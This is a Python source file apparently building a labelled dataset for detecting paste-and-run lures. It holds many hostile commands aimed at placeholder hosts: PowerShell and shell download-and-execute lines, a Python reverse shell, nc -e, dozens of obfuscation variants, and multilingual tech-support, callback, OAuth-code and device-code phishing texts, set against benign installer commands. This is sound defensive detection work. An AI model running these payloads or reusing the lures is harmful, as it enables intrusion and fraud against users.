        RUN,
        "windows",
    ),
    (
        "ioc-sal-alias-iex",
        'powershell -w h -c "sal z iex; z(irm https://al.alias-run.invalid/z)"',
        RUN,
        "windows",
    ),
    (
        "ioc-winhttp-com",
        "powershell -c \"$h=New-Object -ComObject WinHttp.WinHttpRequest.5.1;$h.Open('GET','https://wh.com-stage.test/w',0);$h.Send();iex $h.ResponseText\"",
        RUN,
        "windows",
    ),
    (
        "ioc-msxml-com",
        "powershell -c \"$x=New-Object -Com Msxml2.XMLHTTP;$x.open('GET','https://mx.xml-stage.invalid/m',$false);$x.send();iex $x.responseText\"",
        RUN,
        "windows",
    ),
    (
        "ioc-certutil-decode",
        "cmd /c certutil -urlcache -f https://cu.cert-stage.test/b.txt %TEMP%\\b.txt & certutil -decode %TEMP%\\b.txt %TEMP%\\b.exe & %TEMP%\\b.exe",
        RUN,
        "windows",
    ),
    ("ioc-regsvr32-sct", "regsvr32 /s /u /i:http://198.51.100.25/s.sct scrobj.dll", RUN, "windows"),
    (
        "ioc-etherhiding-bsc",
        'powershell -w h -c "$r=irm -Method Post -Uri https://bsc-rpc.chain-relay.test/ -Body \'{\\"method\\":\\"eth_call\\"}\' -ContentType \'application/json\';iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($r.result)))"',
        RUN,
        "windows",
    ),
    (
        "ioc-pwsh-ep-bypass-file-unc",
        "powershell -ep bypass -f \\\\203.0.113.24\\dav\\s.ps1",
        RUN,
        "windows",
    ),
    ("ioc-explorer-webdav-exe", "\\\\192.0.2.222@8080\\DavWWWRoot\\verify.exe", EXP, "windows"),
    (
        "ioc-bitsadmin",
        "bitsadmin /transfer x https://bt.bits-stage.invalid/x.exe C:\\Users\\Public\\x.exe",
        RUN,
        "windows",
    ),
    (
        "ioc-wscript-js-temp",
        "cmd /c curl -so %TEMP%\\a.js https://js.wsh-stage.test/a.js & wscript %TEMP%\\a.js",
        RUN,
        "windows",
    ),
    (
        "ioc-conhost-headless",
        'conhost --headless cmd /c "curl -s https://ch.hl-stage.invalid/c.bat -o %TEMP%\\c.bat & %TEMP%\\c.bat"',
        RUN,
        "windows",
    ),
    ("ioc-amos-curl-bash", "curl -fsSL https://amos.mac-stage.test/i.sh | bash", TERM, "macos"),
    ("ioc-odyssey-bash-c", '/bin/bash -c "$(curl -fsSL http://203.0.113.25/od)"', TERM, "macos"),
    (
        "ioc-amos-base64",
        f"echo '{b64('curl -fsSL https://am.b64-stage.invalid/u | zsh')}' | base64 -d | zsh",
        TERM,
        "macos",
    ),
    (
        "ioc-mac-osascript-curl",
        "osascript -e 'do shell script \"curl -s https://os.mac-stage.invalid/p | sh\"'",
        TERM,
        "macos",
    ),
    (
        "ioc-mac-curl-o-chmod",
        "cd /tmp && curl -O https://bn.mac-bin.test/update && chmod +x update && ./update",
        TERM,
        "macos",
    ),
    ("ioc-linux-wget-sh", "wget -q -O - http://198.51.100.124/x.sh | sh", TERM, "linux"),
    (
        "ioc-linux-curl-tmp-run",
        "curl -s https://ln.elf-stage.invalid/a -o /tmp/a; chmod +x /tmp/a; /tmp/a",
        TERM,
        "linux",
    ),
    (
        "ioc-linux-python-revshell",
        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.109",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'',
        TERM,
        "linux",
    ),
    ("ioc-linux-nc-e", "nc -e /bin/sh 203.0.113.26 443", TERM, "linux"),
    (
        "ioc-ps-gzip-stage",
        f"powershell -w h -c \"iex(New-Object IO.StreamReader(New-Object IO.Compression.GZipStream([IO.MemoryStream][Convert]::FromBase64String('{gzip_b64('irm https://gz.gzip-stage.test/g|iex')}'),0))).ReadToEnd()\"",
        RUN,
        "windows",
    ),
    (
        "ioc-ps-iex-reverse",
        "powershell -c \"iex ((irm https://rv.reverse-stage.invalid/r)[-1..-99999] -join '')\"",
        RUN,
        "windows",
    ),
    (
        "ioc-cmd-mshta-javascript",
        'mshta javascript:a=GetObject("script:https://sc.scriptlet-stage.test/s.sct").Exec();close();',
        RUN,
        "windows",
    ),
    (
        "ioc-ps-memorystream-assembly",
        'powershell -w h -c "[Reflection.Assembly]::Load((iwr https://as.asm-stage.invalid/l.dll -UseB).Content).EntryPoint.Invoke($null,$null)"',
        RUN,
        "windows",
    ),
    ("ioc-pcalua", "pcalua.exe -a \\\\198.51.100.26\\s\\u.exe", RUN, "windows"),
    (
        "ioc-cmd-copy-share-run",
        "cmd /c copy \\\\share.stage-smb.test\\p\\s.exe %TEMP%\\s.exe && %TEMP%\\s.exe",
        RUN,
        "windows",
    ),
]:
    ioc(technique, text, target, platform)

# --- (c) fixture-style obfuscations --------------------------------------------------------------

OB_PAGES = [
    "https://www.lighthouse-bookshop.example/events",
    "https://www.panaderia-la-espiga.example/",
    "https://www.cantina-do-ze.example/",
    "https://www.weinhaus-keller.example/shop",
]
OU = "https://s2.obf-relay.test/a"
OU2 = "http://203.0.113.128/b"
ANSI_C = "".join(f"\\x{b:02x}" for b in b"curl -s https://ac.obf-relay.test/a|sh")
OBFUSCATED: list[tuple[str, str, str]] = [
    ("ps-obf-concat-url", RUN, f'powershell -w h -c "iex(irm {ps_concat(OU, 5)})"'),
    ("ps-obf-format-iex", RUN, f"powershell -w h -c \"&({ps_format('iex', 1)}) (irm '{OU}')\""),
    ("ps-obf-format-url", RUN, f'powershell -c "iex(irm {ps_format(OU2, 6)})"'),
    (
        "ps-obf-charcodes-url",
        RUN,
        f'powershell -c "iex(irm ([string]::new([char[]]@({char_codes(OU)}))))"',
    ),
    (
        "ps-obf-charcodes-command",
        RUN,
        f"powershell -c \"iex ([string]::join('',[char[]]({char_codes('irm ' + OU2 + '|iex')})))\"",
    ),
    (
        "ps-obf-base64-url",
        RUN,
        f"powershell -c \"iex(irm ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('{b64(OU)}'))))\"",
    ),
    (
        "ps-obf-base64-whole",
        RUN,
        f"powershell -c \"iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{b64('iwr ' + OU + ' -UseB|iex')}')))\"",
    ),
    (
        "ps-obf-reverse-string",
        RUN,
        f"powershell -c \"iex(-join('{('irm ' + OU + '|iex')[::-1]}'[-1..-99]))\"",
    ),
    (
        "ps-obf-replace-junk",
        RUN,
        "powershell -c \"iex('iQQrm hQQttps://s2.obf-relay.test/aQQ|iex'.Replace('QQ',''))\"",
    ),
    ("ps-obf-backticks", RUN, "powershell -c \"i`e`x(i`rm 'https://tk.obf-relay.test/t')\""),
    (
        "ps-obf-mixed-case-alias",
        RUN,
        "PoWeRsHeLl -W h -C \"InVoKe-ExPrEsSiOn(iNvOkE-rEsTmEtHoD 'https://mc.obf-relay.test/m')\"",
    ),
    (
        "ps-obf-gcm-wildcard",
        RUN,
        'powershell -c "& (gcm i*e-*pr*n) (irm https://gc.obf-relay.test/g)"',
    ),
    (
        "ps-obf-get-alias-wildcard",
        RUN,
        'powershell -c "& (Get-Alias ?e?)(irm https://ga.obf-relay.test/g)"',
    ),
    (
        "ps-obf-variable-iex",
        RUN,
        "powershell -c \"$a='i'+'ex';& $a (irm https://vr.obf-relay.test/v)\"",
    ),
    (
        "ps-obf-env-comspec-slice",
        RUN,
        "powershell -c \"&($env:comspec[4,15,25]-join'')(irm https://cs.obf-relay.test/c)\"",
    ),
    (
        "ps-obf-shellid-slice",
        RUN,
        "powershell -c \"&($ShellId[1]+$ShellId[13]+'x')(irm https://sh.obf-relay.test/s)\"",
    ),
    (
        "ps-obf-xor-bytes",
        RUN,
        f'powershell -c "$k=23;iex(-join(({xor_codes("irm " + OU + "|iex", 23)})|%{{[char]($_ -bxor $k)}}))"',
    ),
    (
        "ps-obf-unescape-url",
        RUN,
        "powershell -c \"iex(irm ([uri]::UnescapeDataString('https%3A%2F%2Fue.obf-relay.test%2Fu')))\"",
    ),
    ("ps-obf-decimal-ip", RUN, f'powershell -c "iex(irm http://{ip_int("198.51.100.222")}/d)"'),
    ("ps-obf-hex-ip-octet", RUN, 'powershell -c "iex(irm http://0xcb.0.113.12/h)"'),
    (
        "ps-obf-invoke-command-sb",
        RUN,
        'powershell -c "Invoke-Command -ScriptBlock ([scriptblock]::Create((irm https://ic.obf-relay.test/i)))"',
    ),
    (
        "ps-obf-executioncontext",
        RUN,
        'powershell -c "$ExecutionContext.InvokeCommand.InvokeScript((irm https://ec.obf-relay.test/e))"',
    ),
    (
        "ps-obf-getnewclosure-psobject",
        RUN,
        "powershell -c \"$ExecutionContext.InvokeCommand.NewScriptBlock((New-Object Net.WebClient).DownloadString('https://nc.obf-relay.test/n')).Invoke()\"",
    ),
    (
        "cmd-obf-carets",
        RUN,
        carets("cmd /c powershell -w h -c irm https://ca.obf-relay.test/c | iex", 2),
    ),
    (
        "cmd-obf-double-quotes",
        RUN,
        'cmd /c p"o"w"e"r"s"hell -c "irm https://dq.obf-relay.test/d|iex"',
    ),
    (
        "cmd-obf-set-var-call",
        RUN,
        'cmd /v /c "set a=power&& set b=shell&& call !a!!b! -c irm https://sv.obf-relay.test/s^|iex"',
    ),
    (
        "cmd-obf-substring-slicing",
        RUN,
        'cmd /c "set x=abpowershellcd&& call %x:~2,10% -w h -c irm https://ss.obf-relay.test/x^|iex"',
    ),
    (
        "cmd-obf-for-f-curl",
        RUN,
        "cmd /c for /f \"delims=\" %i in ('curl -s https://ff.obf-relay.test/f') do %i",
    ),
    (
        "cmd-obf-env-public-slice",
        RUN,
        "cmd /c %PUBLIC:~5,1%%PUBLIC:~8,1%owershell -c irm https://pb.obf-relay.test/p^|iex",
    ),
    ("cmd-obf-caret-mshta", RUN, "m^s^h^t^a h^t^t^p^s://mh.obf-relay.test/m"),
    ("sh-obf-ansi-c-hex", TERM, f"bash -c $'{ANSI_C}'"),
    ("sh-obf-var-indirection", TERM, "c=curl; s=sh; u=https://vi.obf-relay.test/v; $c -s $u | $s"),
    (
        "sh-obf-printf-octal",
        TERM,
        "$(printf '\\143\\165\\162\\154') -s https://po.obf-relay.test/p | $(printf '\\142\\141\\163\\150')",
    ),
    ("sh-obf-rev", TERM, f"echo '{'curl -s https://rv.obf-relay.test/r | bash'[::-1]}' | rev | sh"),
    (
        "sh-obf-xxd-hex",
        TERM,
        f"echo {hex_str('curl -fsSL https://xx.obf-relay.test/x | bash')} | xxd -r -p | sh",
    ),
    ("sh-obf-ifs", TERM, "curl${IFS}-s${IFS}https://if.obf-relay.test/i|bash"),
    ("sh-obf-eval-concat", TERM, "a='cu';b='rl -s https://ev.obf-relay.test/e';eval \"$a$b | sh\""),
    ("js-obf-atob-eval", CON, f"window['ev'+'al'](atob('{b64(JS_JA)}'))"),
    (
        "js-obf-fromcharcode-url",
        CON,
        f"fetch(String.fromCharCode({char_codes('https://jf.obf-relay.test/f')})).then(r=>r.text()).then(t=>Function(t)())",
    ),
    (
        "js-obf-bracket-constructor",
        CON,
        "[]['filter']['constructor']('return fetch(\"https://jb.obf-relay.test/b\").then(r=>r.text()).then(eval)')()",
    ),
    (
        "js-obf-hex-escapes",
        CON,
        "self['\\x65\\x76\\x61\\x6c']('fetch(\"https://jh.obf-relay.test/h\").then(r=>r.text()).then(eval)')",
    ),
]
for i, (technique, target, text) in enumerate(OBFUSCATED):
    platform = {RUN: "windows", TERM: "linux" if i % 2 else "macos", CON: "browser"}[target]
    lure(technique, target, OB_PAGES[i % len(OB_PAGES)], text, "malicious", platform)

# --- (d) texts that are not commands: scams, callbacks, ConsentFix, device codes -----------------

SCAM = "support-scam"
for lang, source, text in [
    (
        "en",
        "https://alert.pc-defender-warning.example/",
        "WINDOWS DEFENDER - SECURITY ALERT\nTrojan Spyware detected on this PC (error #0x268d3). Your banking and email passwords are at risk.\nDo not restart your computer. Call Microsoft Support now: +1 (888) 555-0143 (toll free).",
    ),
    (
        "de",
        "https://warnung.pc-schutz-zentrale.example/",
        "Achtung! Ihr Computer wurde wegen verdächtiger Aktivitäten gesperrt.\nSchalten Sie den PC nicht aus. Rufen Sie sofort den Microsoft-Support an: 0800 555 0192",
    ),
    (
        "fr",
        "https://alerte.securite-windows-fr.example/",
        "Alerte de sécurité : votre ordinateur est infecté par un virus (code DW6VB36).\nVos données personnelles sont en danger. Appelez immédiatement le support technique au 01 55 55 03 21.",
    ),
    (
        "es",
        "https://aviso.proteccion-equipo.example/",
        "¡Su equipo ha sido bloqueado! Hemos detectado actividad sospechosa.\nLlame al soporte técnico de Windows al +34 900 555 017 para desbloquearlo. No cierre esta ventana.",
    ),
    (
        "it",
        "https://avviso.assistenza-pc-italia.example/",
        "ATTENZIONE: il tuo PC è stato bloccato per motivi di sicurezza.\nChiama subito l'assistenza Microsoft al numero 800 555 044 per evitare la perdita dei dati.",
    ),
    (
        "pt",
        "https://alerta.suporte-windows-br.example/",
        "Seu computador foi bloqueado devido a um vírus detectado.\nNão desligue o computador. Ligue agora para o suporte técnico: 0800 555 0187",
    ),
    (
        "nl",
        "https://waarschuwing.pc-beveiliging-nl.example/",
        "Uw computer is geblokkeerd vanwege een ernstige infectie.\nBel direct de Microsoft-helpdesk op 0800 555 0231 om uw bestanden te beschermen.",
    ),
    (
        "pl",
        "https://alert.ochrona-komputera-pl.example/",
        "Twój komputer został zablokowany z powodu wykrycia wirusa.\nNie wyłączaj komputera. Zadzwoń do pomocy technicznej Microsoft: +48 22 555 01 77",
    ),
    (
        "tr",
        "https://uyari.bilgisayar-koruma-tr.example/",
        "Bilgisayarınız güvenlik nedeniyle kilitlendi! Virüs tespit edildi.\nBilgisayarınızı kapatmayın. Hemen Microsoft Destek hattını arayın: 0850 555 01 66",
    ),
    (
        "ru",
        "https://trevoga.zashita-pk.example/",
        "Внимание! Ваш компьютер заблокирован из-за вирусной активности.\nНе выключайте компьютер. Позвоните в службу поддержки Microsoft: 8 800 555 01 39",
    ),
    (
        "ja",
        "https://keikoku.pc-hogo-center.example/",
        "警告：お使いのコンピューターはウイルスに感染しています。\n個人情報が危険にさらされています。今すぐマイクロソフトサポートに電話してください：0120-555-018",
    ),
    (
        "zh",
        "https://jinggao.diannao-baohu.example/",
        "警告：您的电脑已被锁定，检测到木马病毒。\n请勿关闭或重启电脑。请立即拨打微软技术支持热线：400-555-0172",
    ),
    (
        "ar",
        "https://tahdhir.hemayat-jihaz.example/",
        "تحذير: تم حظر جهاز الكمبيوتر الخاص بك بسبب نشاط مشبوه.\nلا تقم بإيقاف تشغيل الجهاز. اتصل بالدعم الفني لمايكروسوفت فورًا على الرقم 800 555 0128",
    ),
]:
    lure(f"support-scam-{lang}", UNK, source, text, "flagged", "any")

for technique, source, text in [
    (
        "callback-order-norton-en",
        None,
        "Your Norton 360 Total Protection subscription has been renewed for $499.99. Order ID NT-88213.\nIf you did not authorize this charge, call our billing desk within 24 hours: +1 (808) 555-0164.",
    ),
    (
        "callback-order-paypal-fr",
        None,
        "PayPal : un paiement de 689,00 € à Coinbase Europe a été autorisé sur votre compte.\nSi vous n'êtes pas à l'origine de cette opération, appelez le service client au 09 55 55 04 12.",
    ),
    (
        "callback-order-amazon-it",
        None,
        "Amazon: il tuo ordine n. AMZ-IT-991827 (iPhone 16 Pro, 1.329,00 €) è stato confermato.\nPer annullare l'ordine chiama subito il numero 02 5550 1987.",
    ),
    (
        "callback-geek-squad-es",
        None,
        "Geek Squad: su plan de protección se ha renovado automáticamente por 349,99 USD.\nPara cancelar y obtener el reembolso, llame al +1 (786) 555-0119.",
    ),
    (
        "callback-bank-block-nl",
        None,
        "Uw bankpas is tijdelijk geblokkeerd wegens een verdachte transactie van € 1.249.\nBel onze fraudeafdeling op 020 555 0148 om de blokkade op te heffen.",
    ),
    (
        "callback-crypto-withdrawal-de",
        None,
        "Kraken: Auszahlung von 0,42 BTC an eine neue Adresse angefordert.\nWaren Sie das nicht? Rufen Sie sofort unser Sicherheitsteam an: +49 30 5550 1844.",
    ),
]:
    lure(technique, UNK, source, text, "flagged", "any")

for technique, source, text in [
    (
        "consentfix-azcli-localhost-code",
        "https://sharepoint-docs.fileview-secure.example/open",
        "http://localhost:8400/?code=0.AXkA3hT8qQ-rN2mLx_pz7Vd9uGbFv1Kq&state=aWQ9MTIz&session_state=5a1c4e2f-9b77-4c2f-8f1e-0b8d1e44a2d1",
    ),
    (
        "consentfix-loopback-ip-code",
        "https://onedrive-share.doc-access.example/view",
        "http://127.0.0.1:53710/callback?code=M.C540_BAY.2.U.7f1d9a2c-6b0e-4b51-a1a8-0c2e4f9d3b77&state=xyz",
    ),
    (
        "consentfix-instructions-es",
        "https://portal-documentos.acceso-seguro.example/",
        "Para ver el documento, copie la dirección completa de la página de error (empieza por http://localhost...?code=) y péguela en el cuadro de abajo.",
    ),
    (
        "consentfix-instructions-en",
        "https://secure-file-share.reviewdocs.example/",
        "Almost done! Copy the URL from the address bar of the page that says 'This site can't be reached' (it starts with http://localhost:) and paste it here to unlock the file.",
    ),
]:
    lure(technique, UNK, source, text, "flagged", "any")

for technique, source, text in [
    (
        "device-code-teams-meeting",
        "https://teams-invite.meeting-hub.example/join",
        "To join the secure meeting, go to https://microsoft.com/devicelogin and enter the code KX7P-4QZM. The code expires in 15 minutes.",
    ),
    (
        "device-code-it-helpdesk-de",
        "https://it-support.konto-pruefung.example/",
        "IT-Service: Zur Verifizierung Ihres Kontos öffnen Sie https://microsoft.com/devicelogin und geben Sie den Code H8ZQ2TLMW ein. Danach ist Ihr Postfach wieder freigeschaltet.",
    ),
    (
        "device-code-signal-fr",
        "https://chat-securise.invitation-docs.example/",
        "Pour accéder au document partagé, rendez-vous sur https://microsoft.com/devicelogin et saisissez le code CJ4MRT9XP.",
    ),
    (
        "device-code-github-cli",
        "https://github-security-notice.repo-alerts.example/",
        "Security review required: open https://github.com/login/device and enter 5F2B-91CD to re-authorise your repositories.",
    ),
]:
    lure(technique, UNK, source, text, "flagged", "any")


# ----------------------------------------------------------------------------------------------
# Benign: (kind, target, source, text)
# ----------------------------------------------------------------------------------------------

BENIGN: list[tuple[str, str, str | None, str]] = []
OWN = "installer-own-page"


def ok(kind: str, target: str, source: str | None, text: str) -> None:
    BENIGN.append((kind, target, source, text))


# --- Installers of real projects not used by the earlier sets, each from its own page ------------
# The command as the project publishes it (README, install page or release page), with that page.
# A Windows installer is pasted into PowerShell (target terminal as well).

OWN_PAGES = [
    ("https://github.com/sharkdp/hexyl", "cargo install hexyl"),
    ("https://github.com/ogham/dog", "cargo install --git https://github.com/ogham/dog dog"),
    ("https://github.com/orhun/git-cliff", "cargo install git-cliff"),
    ("https://github.com/alacritty/alacritty", "cargo install alacritty"),
    ("https://github.com/jenv/jenv", "git clone https://github.com/jenv/jenv.git ~/.jenv"),
    ("https://github.com/goenv/goenv", "git clone https://github.com/go-nv/goenv.git ~/.goenv"),
    ("https://ziglang.org/download/", "snap install zig --classic --beta"),
    ("https://microk8s.io/", "sudo snap install microk8s --classic"),
    (
        "https://cert-manager.io/docs/installation/",
        "kubectl apply -f https://github.com/cert-manager/cert-manager/releases/download/v1.16.2/cert-manager.yaml",
    ),
    (
        "https://kubernetes.github.io/ingress-nginx/deploy/",
        "helm upgrade --install ingress-nginx ingress-nginx --repo https://kubernetes.github.io/ingress-nginx --namespace ingress-nginx --create-namespace",
    ),
    (
        "https://rancher.com/docs/rancher/v2.x/en/installation/",
        "sudo docker run -d --restart=unless-stopped -p 80:80 -p 443:443 --privileged rancher/rancher",
    ),
    ("https://certbot.eff.org/instructions", "sudo snap install --classic certbot"),
    (
        "https://opensearch.org/docs/latest/install-and-configure/install-opensearch/docker/",
        "docker pull opensearchproject/opensearch:2",
    ),
    (
        "https://www.openhab.org/docs/installation/linux.html",
        "curl -fL https://openhab.jfrog.io/artifactory/api/gpg/key/public | gpg --dearmor > openhab.gpg",
    ),
    (
        "https://photoprism.app/get",
        "curl -fsSL https://dl.photoprism.app/docker/compose.yaml -o compose.yaml",
    ),
    (
        "https://forgejo.org/download/",
        "wget https://codeberg.org/forgejo/forgejo/releases/download/v9.0.2/forgejo-9.0.2-linux-amd64",
    ),
    ("https://docs.drone.io/server/provider/github/", "docker pull drone/drone:2"),
    (
        "https://woodpecker-ci.org/docs/administration/installation/docker-compose",
        "curl -fsSL https://raw.githubusercontent.com/woodpecker-ci/woodpecker/main/docker/docker-compose.yml -o docker-compose.yml",
    ),
    ("https://gitlab.com/gitlab-org/cli", "brew install glab"),
    (
        "https://github.com/git-ecosystem/git-credential-manager",
        "dotnet tool install -g git-credential-manager",
    ),
    ("https://pre-commit.com/", "pip install pre-commit"),
    ("https://github.com/evilmartians/lefthook", "npm install lefthook --save-dev"),
    ("https://commitizen-tools.github.io/commitizen/", "pipx install commitizen"),
    ("https://bazel.build/install/bazelisk", "npm install -g @bazel/bazelisk"),
    ("https://github.com/bazelbuild/bazelisk", "go install github.com/bazelbuild/bazelisk@latest"),
    (
        "https://buck2.build/docs/getting_started/",
        "rustup install nightly-2024-10-13 && cargo +nightly-2024-10-13 install --git https://github.com/facebook/buck2.git buck2",
    ),
    ("https://cmake.org/download/", "pip install cmake"),
    ("https://github.com/ninja-build/ninja", "sudo apt-get install ninja-build"),
    ("https://mesonbuild.com/Getting-meson.html", "pip3 install --user meson"),
    ("https://conan.io/downloads", "pip install conan"),
    ("https://xmake.io/", "curl -fsSL https://xmake.io/shget.text | bash"),
    (
        "https://xmake.io/#/guide/installation?id=windows",
        "Invoke-Expression (Invoke-Webrequest 'https://xmake.io/psget.text' -UseBasicParsing).Content",
    ),
    (
        "https://learn.microsoft.com/en-us/sysinternals/downloads/sysmon",
        "sysmon64.exe -accepteula -i sysmonconfig.xml",
    ),
    (
        "https://docs.ansible.com/ansible/latest/installation_guide/intro_installation.html",
        "python3 -m pip install --user ansible",
    ),
    ("https://www.packer.io/downloads", "brew install hashicorp/tap/packer"),
    (
        "https://github.com/gruntwork-io/terratest",
        "go get github.com/gruntwork-io/terratest/modules/terraform",
    ),
    ("https://docs.convex.dev/quickstart/nodejs", "npm install convex"),
    ("https://lmstudio.ai/docs/cli", "npx lmstudio install-cli"),
    ("https://docs.vllm.ai/en/latest/getting_started/installation/", "pip install vllm"),
    ("https://github.com/tldr-pages/tldr", "npm install -g tldr"),
    ("https://github.com/noahgorstein/jqp", "brew install noahgorstein/tap/jqp"),
    ("https://github.com/wireservice/csvkit", "pip install csvkit"),
    ("https://github.com/harelba/q", "brew install harelba/q/q"),
    ("https://github.com/dinedal/textql", "go install github.com/dinedal/textql/...@latest"),
    (
        "https://github.com/httpie/cli",
        "python -m pip install --upgrade pip wheel && python -m pip install httpie",
    ),
    ("https://github.com/ktr0731/evans", "brew tap ktr0731/evans && brew install evans"),
    ("https://github.com/hurl-dev/hurl", "cargo install --locked hurl"),
    ("https://github.com/wg/wrk", "git clone https://github.com/wg/wrk.git && cd wrk && make"),
    ("https://github.com/jonhoo/inferno", "cargo install inferno"),
    (
        "https://github.com/mstange/samply",
        "curl --proto '=https' --tlsv1.2 -LsSf https://github.com/mstange/samply/releases/download/samply-v0.12.0/samply-installer.sh | sh",
    ),
    ("https://github.com/benfred/py-spy", "pip install py-spy"),
    ("https://github.com/plasma-umass/scalene", "python3 -m pip install -U scalene"),
    ("https://github.com/bloomberg/memray", "python3 -m pip install memray"),
    ("https://github.com/tstack/lnav", "brew install lnav"),
    ("https://github.com/moncho/dry", "curl -sSf https://moncho.github.io/dry/dryup.sh | sudo sh"),
    (
        "https://github.com/containrrr/watchtower",
        "docker run -d --name watchtower -v /var/run/docker.sock:/var/run/docker.sock containrrr/watchtower",
    ),
    (
        "https://github.com/docker/compose",
        "sudo curl -SL https://github.com/docker/compose/releases/download/v2.31.0/docker-compose-linux-x86_64 -o /usr/local/bin/docker-compose",
    ),
    ("https://github.com/docker/buildx", "docker buildx install"),
    (
        "https://buildpacks.io/docs/for-platform-operators/how-to/integrate-ci/pack/",
        "sudo add-apt-repository ppa:cncf-buildpacks/pack-cli && sudo apt-get update && sudo apt-get install pack-cli",
    ),
    (
        "https://github.com/GoogleContainerTools/container-structure-test",
        "curl -LO https://github.com/GoogleContainerTools/container-structure-test/releases/latest/download/container-structure-test-linux-amd64 && chmod +x container-structure-test-linux-amd64 && sudo mv container-structure-test-linux-amd64 /usr/local/bin/container-structure-test",
    ),
    (
        "https://github.com/slsa-framework/slsa-verifier",
        "go install github.com/slsa-framework/slsa-verifier/v2/cli/slsa-verifier@v2.6.0",
    ),
    ("https://github.com/FiloSottile/age", "brew install age"),
    (
        "https://github.com/getsops/sops",
        "curl -LO https://github.com/getsops/sops/releases/download/v3.9.2/sops-v3.9.2.linux.amd64 && sudo mv sops-v3.9.2.linux.amd64 /usr/local/bin/sops && sudo chmod +x /usr/local/bin/sops",
    ),
    (
        "https://github.com/bitnami-labs/sealed-secrets",
        "helm repo add sealed-secrets https://bitnami-labs.github.io/sealed-secrets && helm install sealed-secrets -n kube-system sealed-secrets/sealed-secrets",
    ),
    (
        "https://external-secrets.io/latest/introduction/getting-started/",
        "helm repo add external-secrets https://charts.external-secrets.io && helm install external-secrets external-secrets/external-secrets -n external-secrets --create-namespace",
    ),
    ("https://github.com/1Password/shell-plugins", "op plugin init gh"),
    ("https://github.com/gopasspw/gopass", "go install github.com/gopasspw/gopass@latest"),
    ("https://www.passwordstore.org/", "sudo apt-get install pass"),
    ("https://github.com/localtunnel/localtunnel", "npm install -g localtunnel"),
    ("https://github.com/jpillora/chisel", "curl https://i.jpillora.com/chisel! | bash"),
    ("https://github.com/sshuttle/sshuttle", "pip install sshuttle"),
    ("https://github.com/mobile-shell/mosh", "sudo apt-get install mosh"),
    (
        "https://github.com/warp-tech/warpgate",
        "docker run --rm -it -v /srv/warpgate:/data ghcr.io/warp-tech/warpgate setup",
    ),
    ("https://github.com/rustdesk/rustdesk", "winget install --id=RustDesk.RustDesk -e"),
    (
        "https://github.com/LizardByte/Sunshine",
        "flatpak install --user flathub dev.lizardbyte.app.Sunshine",
    ),
    (
        "https://github.com/moonlight-stream/moonlight-qt",
        "flatpak install flathub com.moonlight_stream.Moonlight",
    ),
    ("https://github.com/magic-wormhole/magic-wormhole", "pip install magic-wormhole"),
    ("https://github.com/timvisee/ffsend", "snap install ffsend"),
    ("https://github.com/yt-dlp/yt-dlp", 'python3 -m pip install -U "yt-dlp[default]"'),
    ("https://github.com/iawia002/lux", "go install github.com/iawia002/lux@latest"),
    ("https://github.com/spotDL/spotify-downloader", "pip install spotdl"),
    ("https://github.com/mpv-player/mpv", "brew install mpv"),
    ("https://github.com/HandBrake/HandBrake", "flatpak install flathub fr.handbrake.ghb"),
    (
        "https://github.com/obsproject/obs-studio",
        "sudo add-apt-repository ppa:obsproject/obs-studio && sudo apt install obs-studio",
    ),
    ("https://github.com/ImageMagick/ImageMagick", "brew install imagemagick"),
    ("https://github.com/libvips/libvips", "sudo apt install libvips-tools"),
    ("https://github.com/shssoichiro/oxipng", "cargo install oxipng"),
    ("https://github.com/kornelski/pngquant", "brew install pngquant"),
    ("https://github.com/ocrmypdf/OCRmyPDF", "pip install ocrmypdf"),
    (
        "https://github.com/gohugoio/hugo",
        "CGO_ENABLED=1 go install -tags extended github.com/gohugoio/hugo@latest",
    ),
    ("https://github.com/getzola/zola", "brew install zola"),
    ("https://github.com/remix-run/remix", "npx create-remix@latest"),
    ("https://github.com/vuejs/create-vue", "npm create vue@latest"),
    ("https://github.com/rails/rails", "gem install rails"),
    ("https://github.com/hanami/hanami", "gem install hanami"),
    ("https://github.com/django/django", "python -m pip install Django"),
    ("https://github.com/fastapi/fastapi", 'pip install "fastapi[standard]"'),
    ("https://github.com/pallets/flask", "pip install -U Flask"),
    ("https://github.com/encode/uvicorn", "pip install 'uvicorn[standard]'"),
    ("https://github.com/spring-projects/spring-boot", "sdk install springboot"),
    ("https://github.com/micronaut-projects/micronaut-starter", "sdk install micronaut"),
    ("https://github.com/gradle/gradle", "sdk install gradle 8.11.1"),
    ("https://github.com/dotnet/maui", "dotnet workload install maui"),
    ("https://github.com/AvaloniaUI/Avalonia", "dotnet new install Avalonia.Templates"),
    ("https://github.com/unoplatform/uno", "dotnet tool install -g uno.check"),
    (
        "https://github.com/PowerShell/PSReadLine",
        "Install-Module PSReadLine -AllowPrerelease -Force",
    ),
    ("https://github.com/microsoft/edit", "winget install Microsoft.Edit"),
    ("https://github.com/microsoft/vscode-cpptools", "code --install-extension ms-vscode.cpptools"),
    (
        "https://github.com/massgravel/Microsoft-Activation-Scripts",
        "irm https://get.activated.win | iex",
    ),
    ("https://github.com/hellzerg/optimizer", "winget install hellzerg.optimizer"),
    (
        "https://github.com/FelixKratz/SketchyBar",
        "brew tap FelixKratz/formulae && brew install sketchybar",
    ),
    (
        "https://github.com/mathiasbynens/dotfiles",
        "cd; curl -#L https://github.com/mathiasbynens/dotfiles/tarball/main | tar -xzv --strip-components 1 --exclude={README.md,bootstrap.sh,.osx,LICENSE-MIT.txt}",
    ),
    (
        "https://github.com/thoughtbot/laptop",
        "curl --remote-name https://raw.githubusercontent.com/thoughtbot/laptop/main/mac && sh mac 2>&1 | tee ~/laptop.log",
    ),
    (
        "https://github.com/pi-hole/docker-pi-hole",
        "docker run -d --name pihole -p 53:53/tcp -p 53:53/udp -p 80:80 -e TZ=Europe/London pihole/pihole:latest",
    ),
    ("https://github.com/fail2ban/fail2ban", "sudo apt install fail2ban"),
    ("https://github.com/nmap/nmap", "sudo apt install nmap"),
    (
        "https://github.com/robertdavidgraham/masscan",
        "git clone https://github.com/robertdavidgraham/masscan && cd masscan && make",
    ),
    (
        "https://github.com/sullo/nikto",
        "git clone https://github.com/sullo/nikto && cd nikto/program && ./nikto.pl -h http://localhost",
    ),
    ("https://github.com/wpscanteam/wpscan", "gem install wpscan"),
    ("https://github.com/hashcat/hashcat", "sudo apt install hashcat"),
